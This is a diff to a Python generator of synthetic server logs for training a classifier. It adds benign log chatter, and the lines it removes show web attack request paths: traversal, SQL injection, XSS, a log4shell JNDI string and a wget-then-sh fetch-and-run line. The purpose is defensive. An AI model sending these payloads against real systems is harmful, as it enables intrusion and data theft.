@@ -10,13 +10,17 @@ model has to learn the meaning of a line, not its format. Same seed, same lines.
 from __future__ import annotations
 
 import random
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Sequence
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
+from typing import TypeVar
 
 import orjson
 
+from classifiers.logs.payloads import attack_path, benign_path
 from classifiers.logs.taxonomy import LABELS
+
+T = TypeVar("T")
 
 HOSTS = (
     "web-01",
@@ -109,6 +113,28 @@ JAVA_CLASSES = (
     "com.acme.billing.InvoiceJob",
     "org.springframework.web.servlet.DispatcherServlet",
 )
+THREADS = (
+    "main",
+    "pool-3-thread-2",
+    "SyncThread:0",
+    "worker-12",
+    "Timer-0",
+    "NIOServerCxn.Factory",
+    "scheduler-4",
+    "listener-1",
+)
+SHORT_CLASSES = (
+    "QueueWorker",
+    "SessionTracker",
+    "CacheManager",
+    "Scheduler",
+    "ConnectionPool",
+    "MetricsReporter",
+    "LeaderElector",
+    "ConfigLoader",
+    "HealthCheck",
+    "BatchWriter",
+)
 BGL_NODES = (
     "R02-M1-N0-C:J12-U11",
     "R30-M0-N9-C:J16-U01",
@@ -139,7 +165,7 @@ class _Draw:
         self.now += timedelta(seconds=self.rng.expovariate(1 / 20))
         return self.now
 
-    def pick(self, options: tuple[str, ...]) -> str:
+    def pick(self, options: Sequence[T]) -> T:
         return self.rng.choice(options)
 
     def public_ip(self) -> str:
@@ -212,6 +238,39 @@ class _Draw:
             }
         ).decode()
 
+    def log4j(self, level: str, message: str) -> str:
+        """``date - LEVEL [thread:Class@line] - message`` (a common log4j pattern)."""
+        t = self.tick()
+        return (
+            f"{t:%Y-%m-%d %H:%M:%S},{t.microsecond // 1000:03d} - {level:5s} "
+            f"[{self.pick(THREADS)}:{self.pick(SHORT_CLASSES)}@{self.rng.randint(40, 900)}] "
+            f"- {message}"
+        )
+
+    def logcat(self, level: str, tag: str, message: str) -> str:
+        """Android ``logcat -v threadtime``."""
+        t = self.tick()
+        return (
+            f"{t:%m-%d %H:%M:%S}.{t.microsecond // 1000:03d} {self.pid():5d} "
+            f"{self.pid():5d} {level} {tag}: {message}"
+        )
+
+    def pipe(self, component: str, message: str) -> str:
+        """``yyyymmdd-HH:MM:SS:mmm|component|pid|message`` (mobile app logs)."""
+        t = self.tick()
+        return (
+            f"{t:%Y%m%d-%H:%M:%S}:{t.microsecond // 1000}|{component}|"
+            f"{self.rng.randint(10**7, 10**8)}|{message}"
+        )
+
+    def apache_error(self, level: str, message: str) -> str:
+        t = self.tick()
+        return f"[{t:%a %b %d %H:%M:%S %Y}] [{level}] {message}"
+
+    def spark(self, level: str, component: str, message: str) -> str:
+        t = self.tick()
+        return f"{t:%y/%m/%d %H:%M:%S} {level} {component}: {message}"
+
 
 Scenario = Callable[[_Draw], str]
 
@@ -274,7 +333,8 @@ def _sudo_ok(d: _Draw) -> str:
 def _web_ok(d: _Draw) -> str:
     method = d.pick(("GET", "GET", "GET", "POST", "HEAD"))
     status = d.rng.choice((200, 200, 200, 200, 301, 304, 404))
-    return d.access(d.any_ip(), method, d.pick(WEB_PATHS), status, d.pick(USER_AGENTS))
+    path = d.pick(WEB_PATHS) if d.rng.random() < 0.5 else benign_path(d.rng)
+    return d.access(d.any_ip(), method, path, status, d.pick(USER_AGENTS))
 
 
 def _systemd_ok(d: _Draw) -> str:
@@ -358,6 +418,393 @@ def _bgl_ok(d: _Draw) -> str:
 def _useradd_ok_lookalike(d: _Draw) -> str:
     user = d.pick(USERS)
     return d.syslog("passwd", f"pam_unix(passwd:chauthtok): password for {user} unchanged")
+
+
+def _n(d: _Draw, low: int = 1, high: int = 9999) -> int:
+    return d.rng.randint(low, high)
+
+
+def _rdns(d: _Draw) -> str:
+    """A reverse-DNS host name as ISPs assign them."""
+    a, b = d.rng.randint(1, 254), d.rng.randint(1, 254)
+    return d.pick(
+        (
+            f"{a}-{b}-{_n(d, 1, 254)}-{_n(d, 1, 254)}.dsl.example-isp.net",
+            f"host{a}.{b}.pool.broadband.example.com",
+            f"adsl-{a}-{b}.static.example.org",
+            "mail.example.com",
+        )
+    )
+
+
+def _routine_info(d: _Draw) -> str:
+    """Application INFO chatter: lifecycle, progress, housekeeping."""
+    return d.pick(
+        (
+            f"Started {d.pick(SHORT_CLASSES)} in {d.rng.uniform(0.5, 30):.3f} seconds",
+            f"Flushed {_n(d)} records to segment {_n(d)} in {_n(d, 1, 900)} ms",
+            f"Checkpoint {_n(d)} completed, {_n(d)} entries written",
+            f"Accepted connection from /{d.private_ip()}:{d.port()}",
+            f"Closed connection from /{d.private_ip()}:{d.port()} "
+            f"which had sessionid 0x{d.hexs(15)}",
+            f"Session 0x{d.hexs(15)} established with negotiated timeout {_n(d, 5, 40)}000",
+            f"Leader election completed: this node is {d.pick(('FOLLOWING', 'LEADING'))}",
+            f"Received notification: leader={_n(d, 1, 5)} epoch=0x{d.hexs(2)} state=LOOKING",
+            f"Snapshotting: 0x{d.hexs(9)} to /var/lib/app/snapshot.{d.hexs(9)}",
+            f"Rolling log file to log.{d.hexs(9)}",
+            f"Registered {_n(d, 1, 40)} handlers for /api/v{_n(d, 1, 3)}",
+            f"Loaded configuration from /etc/{d.pick(SERVICES)}/config.yaml",
+            f"Task {_n(d)} finished in {_n(d, 1, 5000)} ms on executor {_n(d, 1, 32)}",
+            f"Shuffle of stage {_n(d, 1, 99)} done: {_n(d)} blocks fetched",
+            f"Registering block manager {d.private_ip()}:{d.port()} with 4.2 GB RAM",
+            "Shutdown hook called, releasing resources",
+            f"Health check passed ({_n(d, 1, 30)} checks, 0 errors)",
+            f"Error count reset to 0 after {_n(d, 1, 60)} healthy probes",
+            f"Configuration parsed with 0 errors and {_n(d, 0, 9)} warnings",
+            f"Retry {_n(d, 1, 3)} of request {d.hexs(8)} succeeded",
+            f"Worker {_n(d, 1, 64)} recovered from error state after reset",
+            f"Transaction {d.hexs(10)} rolled back at client request",
+            f"Cleaned up {_n(d)} expired sessions",
+            f"Scheduled backup job finished: {_n(d)} files, 0 failed",
+        )
+    )
+
+
+def _routine_warn(d: _Draw) -> str:
+    """Warnings that ops read past: slow or deprecated things, idle timeouts, optional parts
+    missing, threads stopping on purpose, recoverable retries."""
+    return d.pick(
+        (
+            f"Slow query took {_n(d, 1000, 9000)} ms: SELECT * FROM orders WHERE id = ?",
+            f"Property '{d.pick(('db.url', 'cache.size', 'http.port'))}' is deprecated, "
+            "use the new key instead",
+            f"Session 0x{d.hexs(15)} expired after {_n(d, 30, 600)} s of inactivity, closing",
+            f"Client /{d.private_ip()}:{d.port()} closed the connection, cleaning up session",
+            f"Worker thread {d.pick(THREADS)} interrupted while idle, shutting down",
+            f"Thread {d.pick(THREADS)} exiting: work queue drained",
+            f"Stopping {d.pick(SHORT_CLASSES)} worker on request",
+            f"Could not find optional file /etc/app/{d.pick(('overrides', 'local'))}.conf, "
+            "using defaults",
+            f"Failed to load optional plugin '{d.pick(('metrics-jmx', 'geoip', 'ldap-sync'))}',"
+            " continuing without it",
+            f"Validation failed for field 'email' in request {d.hexs(8)}, returning 400",
+            f"Cache miss ratio {_n(d, 10, 40)}% above {_n(d, 5, 10)}% target",
+            f"Heap usage at {_n(d, 60, 80)}% after GC, still below the limit",
+            f"GC pause of {_n(d, 200, 900)} ms",
+            f"Request {d.hexs(8)} took {_n(d, 2, 9)}.{_n(d, 0, 9)} s, over the 2 s budget",
+            f"Unknown property '{d.pick(('foo.bar', 'legacy.mode'))}' ignored",
+            f"Skipping unreadable cache file /tmp/cache/{d.hexs(8)}, it will be rebuilt",
+            f"Lease renewal for {d.hexs(8)} took {_n(d, 100, 900)} ms",
+            f"Retrying request {d.hexs(8)} (attempt 1 of 3)",
+            "Received SIGTERM, finishing in-flight requests before exit",
+            f"Using default value {_n(d, 1, 100)} for max.poll.records",
+            f"Queue {d.pick(('events', 'mail', 'jobs'))} length {_n(d, 100, 900)}, "
+            "consumer lagging",
+        )
+    )
+
+
+def _app_chatter(d: _Draw) -> str:
+    """Routine INFO/WARN/DEBUG lines in the Java, log4j, Spark and JSON formats."""
+    level = d.rng.choices(("INFO", "WARN", "DEBUG"), (5, 3, 1))[0]
+    message = _routine_warn(d) if level == "WARN" else _routine_info(d)
+    form = d.rng.random()
+    if form < 0.3:
+        return d.app(level, message)
+    if form < 0.6:
+        return d.log4j(level, message)
+    if form < 0.8:
+        return d.spark(
+            level,
+            f"{d.pick(('storage', 'scheduler', 'executor'))}.{d.pick(SHORT_CLASSES)}",
+            message,
+        )
+    return d.json_line(
+        level.lower(), message, d.pick(("payments-api", "checkout", "search", "worker"))
+    )
+
+
+def _numbers(d: _Draw, count: int, high: int = 9999) -> str:
+    return " ".join(str(d.rng.randint(0, high)) for _ in range(count))
+
+
+def _numeric_status(d: _Draw) -> str:
+    """Status lines that are mostly numbers (counters, sensor readings, progress): the bare
+    access-log shape ``<NUM> <NUM>`` must not read as a web request, let alone an attack."""
+    k = d.rng.randint(2, 6)
+    message = d.pick(
+        (
+            f"load average: {d.rng.uniform(0, 4):.2f} {d.rng.uniform(0, 4):.2f} "
+            f"{d.rng.uniform(0, 4):.2f}",
+            f"cpu {_numbers(d, k, 100)}",
+            f"fan speeds {_numbers(d, k, 9000)} rpm",
+            f"temperatures ( {_numbers(d, k, 90)} ) C",
+            f"rx {_numbers(d, 2, 10**7)} tx {_numbers(d, 2, 10**7)}",
+            f"progress {_n(d, 0, 500)} / {_n(d, 500, 5000)} ( {_n(d, 0, 100)} % )",
+            f"window [{_n(d)}, {_n(d)}] count {_n(d, 0, 99)} sum {_n(d)}",
+            f"latency p50 {_n(d, 1, 50)} p99 {_n(d, 50, 900)} ms",
+            f"stats {_numbers(d, k)}",
+            f"summary {_numbers(d, k, 500)}",
+            f"counters {_numbers(d, k)} ok",
+            _numbers(d, k, 99999),
+        )
+    )
+    form = d.rng.random()
+    if form < 0.25:
+        return d.syslog(d.pick(("collectd", "sensord", "vnstatd", "sysstat", "telegraf")), message)
+    if form < 0.5:
+        return d.app("INFO", message)
+    if form < 0.65:
+        return d.log4j(d.pick(("INFO", "DEBUG")), message)
+    if form < 0.8:
+        return d.pipe(d.pick(("StatsReporter", "Pedometer", "DailyReport", "SensorHub")), message)
+    if form < 0.9:
+        return d.logcat(
+            d.pick(("D", "I", "V")), d.pick(("MemInfo", "BatteryStats", "Sensors")), message
+        )
+    return d.bgl("KERNEL", "INFO", message)
+
+
+def _kernel_chatter(d: _Draw) -> str:
+    """Kernel boot, power, driver and network-interface messages that mean nothing is wrong."""
+    ts = f"[{d.rng.uniform(0, 99999):.6f}]"
+    iface = d.pick((*IFACES, "wlan0", "en0", "docker0"))
+    msg = d.pick(
+        (
+            f"Initializing cgroup subsys {d.pick(('cpuset', 'cpu', 'cpuacct', 'memory'))}",
+            f"Linux version {_n(d, 3, 6)}.{_n(d, 0, 19)}.0-{_n(d, 1, 120)}-generic (buildd@lcy02)",
+            "Command line: BOOT_IMAGE=/vmlinuz root=UUID=x ro quiet splash",
+            f"Memory: {_n(d, 10**6, 10**7)}k/{_n(d, 10**7, 2 * 10**7)}k available",
+            f"BIOS-e820: {d.hexs(16)} - {d.hexs(16)} (usable)",
+            f"ACPI: PM-Timer IO Port: 0x{d.hexs(3)}",
+            "random: crng init done",
+            f"{iface}: link becomes ready",
+            f"IPv6: ADDRCONF(NETDEV_UP): {iface}: link is not ready",
+            f"{iface}: authenticate with {d.hexs(2)}:{d.hexs(2)}:{d.hexs(2)}:{d.hexs(2)}",
+            f"{iface}: associated",
+            f"{iface}: roamed to a new access point, channel {_n(d, 1, 140)}",
+            f"device veth{d.hexs(7)} entered promiscuous mode",
+            f"docker0: port {_n(d, 1, 9)}(veth{d.hexs(7)}) entered forwarding state",
+            f"perf: interrupt took too long ({_n(d, 2501, 9000)} > 2500), lowering "
+            f"kernel.perf_event_max_sample_rate to {_n(d, 20000, 80000)}",
+            f"EXT4-fs ({d.pick(DISKS)}1): re-mounted. Opts: errors=remount-ro",
+            f"Adding {_n(d, 10**5, 10**7)}k swap on /swapfile.  Priority:-2 extents:1",
+            "PM: suspend entry (deep)",
+            "PM: suspend exit",
+            f"smpboot: CPU {_n(d, 1, 15)} is now offline",
+            f"IOPMrootDomain: system wake completed in {_n(d, 100, 2000)} ms",
+            f"IOPMrootDomain: idle sleep timer set to {_n(d, 1, 30)} min",
+            f'audit: type=1400 audit({_n(d)}.{_n(d, 100, 999)}:{_n(d)}): apparmor="STATUS" '
+            f'operation="profile_load" name="/usr/sbin/{d.pick(("cupsd", "tcpdump", "ntpd"))}"',
+            "nf_conntrack: default automatic helper assignment has been turned off",
+            f"usb {_n(d, 1, 4)}-{_n(d, 1, 4)}: USB disconnect, device number {_n(d, 1, 20)}",
+            f"Bluetooth: hci0: command 0x{d.hexs(4)} tx timeout, retrying",
+        )
+    )
+    if d.rng.random() < 0.5:
+        return d.syslog("kernel", f"{ts} {msg}", pid=False)
+    return d.syslog("kernel", msg)
+
+
+def _daemon_chatter(d: _Draw) -> str:
+    """System daemons doing their normal work, some with words like error/failed/denied in a
+    harmless context."""
+    iface, ip = d.pick(IFACES), d.private_ip()
+    program, message = d.pick(
+        (
+            ("dhclient", f"DHCPREQUEST on {iface} to {ip} port 67"),
+            ("dhclient", f"DHCPACK from {ip}"),
+            ("dhclient", f"bound to {d.private_ip()} -- renewal in {_n(d, 600, 86400)} seconds."),
+            ("ntpd", f"synchronized to {ip}, stratum {_n(d, 1, 4)}"),
+            ("chronyd", f"Selected source {ip}"),
+            ("avahi-daemon", f"Registering new address record for {ip} on {iface}.IPv4."),
+            ("NetworkManager", f"<info>  device ({iface}): state change: config -> ip-config"),
+            ("dbus-daemon", "[system] Successfully activated service 'org.freedesktop.hostname1'"),
+            ("rsyslogd", '[origin software="rsyslogd" swVersion="8.2112.0"] start'),
+            ("xinetd", f"START: ftp pid={d.pid()} from={ip}"),
+            ("xinetd", f"EXIT: ftp status=0 pid={d.pid()} duration={_n(d, 1, 99)}(sec)"),
+            ("postfix/smtpd", f"connect from {_rdns(d)}[{ip}]"),
+            ("vsftpd", f'CONNECT: Client "{d.any_ip()}"'),
+            ("proftpd", f"{d.pick(HOSTS)} ({_rdns(d)}[{ip}]) - FTP session opened."),
+            ("in.identd", f"connection from {d.any_ip()} ({_rdns(d)})"),
+            ("postfix/smtpd", f"disconnect from mail.example.com[{ip}] ehlo=1 mail=1 quit=1"),
+            ("dovecot", f"imap-login: Login: user=<{d.pick(USERS)}>, method=PLAIN, rip={ip}"),
+            ("named", f"client {ip}#{d.port()}: query: example.com IN A + ({ip})"),
+            (
+                "smartd",
+                f"Device: /dev/{d.pick(DISKS)} [SAT], SMART Usage Attribute: 194 "
+                f"Temperature_Celsius changed from {_n(d, 30, 40)} to {_n(d, 30, 41)}",
+            ),
+            ("smartd", f"Device: /dev/{d.pick(DISKS)}, opened"),
+            ("fsck", f"/dev/{d.pick(DISKS)}1: clean, {_n(d)}/{_n(d, 10**4, 10**6)} files"),
+            ("anacron", "Job `cron.daily' terminated"),
+            ("logrotate", f"rotating log /var/log/{d.pick(SERVICES)}.log, 0 errors"),
+            ("su", f"(to root) {d.pick(USERS)} on pts/{_n(d, 0, 9)}"),
+            (
+                "su",
+                "pam_unix(su:session): session opened for user root by "
+                f"{d.pick(USERS)}(uid={_n(d, 1000, 1010)})",
+            ),
+            ("CRON", "pam_unix(cron:session): session opened for user root by (uid=0)"),
+            ("CRON", "pam_unix(cron:session): session closed for user root"),
+            ("sshd", "Server listening on 0.0.0.0 port 22."),
+            ("sshd", "Received signal 15; terminating."),
+            (
+                "kubelet",
+                f"I0303 10:00:{_n(d, 10, 59)} {d.pid()} kuberuntime_manager.go:{_n(d, 100, 999)}] "
+                'Successfully pulled image "nginx:1.25"',
+            ),
+            ("containerd", f"shim disconnected id={d.hexs(12)} namespace=moby"),
+            ("snapd", "autorefresh.go:540: auto-refresh: all snaps are up-to-date"),
+            ("bluetoothd", "Endpoint registered: sender=:1.57 path=/MediaEndpoint/A2DPSource"),
+            ("cupsd", "Expiring subscriptions..."),
+            ("polkitd", f"Registered Authentication Agent for unix-session:{_n(d, 1, 9)}"),
+            (
+                "mDNSResponder",
+                f"mDNS_RegisterInterface: Frequent transitions for interface {iface}",
+            ),
+            ("locationd", f"client authorization changed for com.example.app{_n(d, 1, 9)}"),
+            ("powerd", f"Sleep assertion released by pid {d.pid()} after {_n(d, 1, 600)} s"),
+            (
+                "sandboxd",
+                f"mdworker({d.pid()}) deny file-read-data /Users/{d.pick(USERS)}/Library/Caches",
+            ),
+            (
+                "com.apple.xpc.launchd",
+                f"(com.apple.{d.pick(('quicklook', 'mdworker', 'photoanalysisd'))}): "
+                "Service only ran for 0 seconds. Pushing respawn out by 10 seconds.",
+            ),
+            ("symptomsd", "NetworkAnalyticsEngine: observed interface change, refreshing"),
+            ("sharingd", "Scanning mode Contacts Only"),
+            ("WindowServer", "CGXDisplayDidWakeNotification: display wake complete"),
+            ("GoogleSoftwareUpdateAgent", "Checking for updates: 0 errors"),
+            ("upsd", "UPS [ups1] on line power"),
+            ("sensord", f"temp1: +{_n(d, 30, 60)}.0 C (OK)"),
+        )
+    )
+    return d.syslog(program, message)
+
+
+def _apache_notice(d: _Draw) -> str:
+    """Apache error-log lines that are not errors: start-up, restarts, housekeeping, 404s."""
+    return d.pick(
+        (
+            d.apache_error(
+                "notice",
+                f"Apache/2.{_n(d, 2, 4)}.{_n(d, 1, 58)} (Unix) configured -- "
+                "resuming normal operations",
+            ),
+            d.apache_error("notice", "caught SIGTERM, shutting down"),
+            d.apache_error("notice", "Graceful restart requested, doing restart"),
+            d.apache_error("notice", "Digest: generating secret for digest authentication ..."),
+            d.apache_error("notice", "Digest: done"),
+            d.apache_error("notice", "suEXEC mechanism enabled (wrapper: /usr/sbin/suexec)"),
+            d.apache_error("notice", f"mpm_prefork: spawned {_n(d, 2, 16)} children"),
+            d.apache_error(
+                "info",
+                "server seems busy, (you may need to increase StartServers, or "
+                f"Min/MaxSpareServers), spawning {_n(d, 2, 32)} children, there are 0 idle, "
+                f"and {_n(d, 10, 99)} total children",
+            ),
+            d.apache_error(
+                "warn",
+                "RSA server certificate CommonName (CN) `localhost' does NOT match server name!?",
+            ),
+            d.apache_error(
+                "error", f"[client {d.any_ip()}] File does not exist: /var/www/html/favicon.ico"
+            ),
+            d.apache_error(
+                "error",
+                f"[client {d.any_ip()}] Directory index forbidden by rule: "
+                f"/var/www/html/{d.pick(('icons', 'static'))}/",
+            ),
+            d.apache_error(
+                "notice", f"child pid {d.pid()} exit signal Terminated (15), graceful stop"
+            ),
+            d.apache_error("notice", f"worker {_n(d, 1, 64)} in idle state, returned to the pool"),
+        )
+    )
+
+
+def _mobile_chatter(d: _Draw) -> str:
+    """Phone and health-app logs: sensors, step counters, sync, UI and power management."""
+    if d.rng.random() < 0.5:
+        component, message = d.pick(
+            (
+                ("StepCounter", f"totalSteps={_n(d, 0, 30000)} delta={_n(d, 0, 60)}"),
+                ("Pedometer", f"onStepsChanged {_n(d, 0, 30000)}"),
+                ("StepSync", f"upload finished, records={_n(d, 1, 99)} cost={_n(d, 5, 900)}ms"),
+                ("HeartRate", f"sample bpm={_n(d, 50, 130)} quality=good"),
+                ("SleepTracker", f"stage changed to {d.pick(('LIGHT', 'DEEP', 'REM', 'AWAKE'))}"),
+                ("BatteryMonitor", f"level={_n(d, 5, 100)} charging={d.pick(('true', 'false'))}"),
+                ("SensorManager", f"registerListener type={_n(d, 1, 30)} success"),
+                ("DataCache", f"flush {_n(d, 1, 500)} records in {_n(d, 1, 90)} ms"),
+                ("ScreenListener", f"screen {d.pick(('on', 'off'))}"),
+                ("SyncService", "sync skipped: device offline, will retry later"),
+                ("DailyReport", f"calories={_n(d, 0, 3000)} distance={_n(d, 0, 20000)}m"),
+                ("AlarmScheduler", f"next alarm at {_n(d, 10**12, 2 * 10**12)}"),
+            )
+        )
+        return d.pipe(component, message)
+    level, tag, message = d.pick(
+        (
+            ("D", "PowerManagerService", f"Waking up from sleep (uid {_n(d, 1000, 10999)})..."),
+            (
+                "I",
+                "ActivityManager",
+                f"Displayed com.example.app/.MainActivity: +{_n(d, 50, 900)}ms",
+            ),
+            (
+                "I",
+                "ActivityManager",
+                f"Start proc {d.pid()}:com.example.sync/u0a{_n(d, 10, 200)} for service",
+            ),
+            (
+                "D",
+                "WindowManager",
+                f"Changing focus from Window{{{d.hexs(7)}}} to Window{{{d.hexs(7)}}}",
+            ),
+            ("V", "AlarmManager", f"set alarm type=2 when={_n(d, 10**6, 10**8)}"),
+            ("I", "BatteryService", f"level={_n(d, 1, 100)} status=2 health=2"),
+            ("D", "wpa_supplicant", "wlan0: CTRL-EVENT-SCAN-STARTED"),
+            (
+                "W",
+                "ActivityManager",
+                f"Slow operation: {_n(d, 50, 900)}ms so far, now at startProcess",
+            ),
+            (
+                "W",
+                "System",
+                "ClassLoader referenced unknown path: /data/app/com.example.app-1/lib/arm64",
+            ),
+            (
+                "W",
+                "ResourceType",
+                f"Failure getting entry for 0x7f0{d.hexs(5)} (t=9 e={_n(d, 1, 99)}) "
+                "in package 0 (error -75)",
+            ),
+            (
+                "W",
+                "Looper",
+                f"Slow dispatch took {_n(d, 100, 900)}ms main h=android.app.ActivityThread$H",
+            ),
+            ("W", "ContextImpl", "Calling a method in the system process without a qualified user"),
+            (
+                "W",
+                "ActivityManager",
+                "Permission Denial: broadcast from android asks to run as user -1 "
+                "but is calling from user 0",
+            ),
+            ("W", "InputMethodManagerService", "Focus gain on non-focused client"),
+            ("E", "ViewRootImpl", "sendUserActionEvent() mView == null"),
+            (
+                "I",
+                "chatty",
+                f"uid={_n(d, 1000, 10999)} system_server identical {_n(d, 1, 40)} lines",
+            ),
+        )
+    )
+    return d.logcat(level, tag, message)
 
 
 # --- malicious and faulty scenarios ------------------------------------------------------
@@ -459,52 +906,15 @@ def _account_change(d: _Draw) -> str:
     )
 
 
-_TRAVERSAL = (
-    "/../../../../etc/passwd",
-    "/static/..%2f..%2f..%2fetc%2fshadow",
-    "/download?file=../../../../etc/passwd",
-    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
-    "/index.php?page=php://filter/convert.base64-encode/resource=config",
-)
-_SQLI = (
-    "/products?id=42%27%20OR%20%271%27=%271",
-    "/search?q=1'+UNION+SELECT+username,password+FROM+users--",
-    "/login?user=admin'--&pass=x",
-    "/item?id=1;DROP%20TABLE%20users",
-    "/api/v1/orders?id=1%20AND%20SLEEP(5)",
-)
-_CMDI = (
-    "/ping?host=127.0.0.1;cat%20/etc/passwd",
-    "/cgi-bin/status?cmd=|id",
-    "/?x=${jndi:ldap://45.9.1.2:1389/a}",
-    "/shell?cmd=wget%20http://185.2.3.4/x;sh%20x",
-    "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array",
-)
-_PROBES = (
-    "/wp-login.php",
-    "/.env",
-    "/.git/config",
-    "/phpmyadmin/index.php",
-    "/admin/config.php",
-    "/xmlrpc.php",
-    "/actuator/env",
-    "/server-status",
-    "/boaform/admin/formLogin",
-)
 _SIGNATURES = (
     "Php.Webshell.C99",
     "Unix.Trojan.Mirai-7100807-0",
     "Multios.Coinminer.Miner-6781728-2",
 )
-_XSS = (
-    "/search?q=<script>alert(1)</script>",
-    "/comment?text=%3Cscript%3Edocument.cookie%3C/script%3E",
-    "/profile?name=<img src=x onerror=alert(1)>",
-)
 
 
 def _web_attack(d: _Draw) -> str:
-    path = d.pick(d.rng.choice((_TRAVERSAL, _SQLI, _CMDI, _PROBES, _XSS)))
+    path = attack_path(d.rng)
     status = d.rng.choice((400, 403, 404, 200, 500))
     agent = d.pick(SCANNER_AGENTS) if d.rng.random() < 0.5 else d.pick(USER_AGENTS)
     return d.access(d.public_ip(), d.pick(("GET", "GET", "POST")), path, status, agent)
@@ -786,12 +1196,18 @@ SCENARIOS: dict[str, tuple[tuple[Scenario, float], ...]] = {
         (_ssh_session, 1.5),
         (_cron, 1.5),
         (_sudo_ok, 1.5),
-        (_web_ok, 3),
+        (_web_ok, 7),
         (_systemd_ok, 1.5),
         (_kernel_ok, 1),
         (_app_ok, 1.5),
         (_bgl_ok, 1.5),
         (_useradd_ok_lookalike, 0.3),
+        (_app_chatter, 4),
+        (_kernel_chatter, 2.5),
+        (_daemon_chatter, 3),
+        (_apache_notice, 1.5),
+        (_mobile_chatter, 2.5),
+        (_numeric_status, 2),
     ),
     "auth_failure": ((_ssh_failed, 4), (_web_auth_failure, 1)),
     "privilege_escalation": ((_sudo_denied, 1),),
